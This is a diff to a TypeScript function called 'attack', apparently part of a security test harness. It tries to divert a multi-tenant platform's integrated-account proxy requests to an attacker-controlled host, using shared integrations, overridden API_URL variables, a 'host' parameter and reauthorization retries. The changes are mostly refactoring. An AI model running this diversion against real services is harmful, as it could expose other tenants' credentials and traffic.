@@ -346,12 +346,12 @@ async function attack(target: DiversionTarget, owner: Tenant, { config, writer, 
   const made = await byOwner('POST', '/integration', { name, config, sharing: 'allow' })
   // A definition that is rejected diverts nothing.
   if (made.status !== 200) return
-  const isForeign = who === 'other team'
-  const tenant: Tenant = isForeign
-    ? await createApiTenant(target)
-    : { ...owner, ...(await createApiEnvironment(target, owner.teamToken)) }
+  const tenant: Tenant =
+    who === 'other team'
+      ? await createApiTenant(target)
+      : { ...owner, ...(await createApiEnvironment(target, owner.teamToken)) }
   const send = sender(target.url, tenant.environmentToken)
-  const victim = isForeign ? send : sender(target.url, tenant.teamToken, tenant.environmentId)
+  const victim = who === 'other team' ? send : sender(target.url, tenant.teamToken, tenant.environmentId)
   const given = writer.installation?.(attacker) ?? {}
   const variables = { environment_variables: { API_URL: vendor, ...(given.environment_variables as JsonObject) } }
   const atInstallation = await (writer.installation === undefined ? victim : send)('POST', '/environment-integration', {
@@ -375,7 +375,10 @@ async function attack(target: DiversionTarget, owner: Tenant, { config, writer, 
   const account = created.body.id
   await settled(send, account)
   await send('GET', `/proxy/items?integrated_account_id=${account}`)
-  await writer.afterwards?.(send, { installation, account }, attacker)
+  for (const also of [{}, { reauthorize_accounts: true }]) {
+    const sendAlso: Send = (verb, path, body) => send(verb, path, { ...body, ...also })
+    await writer.afterwards?.(sendAlso, { installation, account }, attacker)
+  }
   await settled(send, account)
   const args = encodeURIComponent(JSON.stringify({ host: attacker }))
   await send('GET', `/proxy/items?integrated_account_id=${account}&host=${encodeURIComponent(attacker)}&args=${args}`)
@@ -387,8 +390,7 @@ async function attack(target: DiversionTarget, owner: Tenant, { config, writer, 
 /** Waits until the account is no longer being connected. */
 async function settled(send: Send, account: string): Promise<void> {
   for (let poll = 0; poll < 200; poll++) {
-    const { body } = await send('GET', `/integrated-account/${account}`)
-    if (body.status !== 'connecting') return
+    if ((await send('GET', `/integrated-account/${account}`)).body.status !== 'connecting') return
     await new Promise((resolve) => setTimeout(resolve, 25))
   }
 }
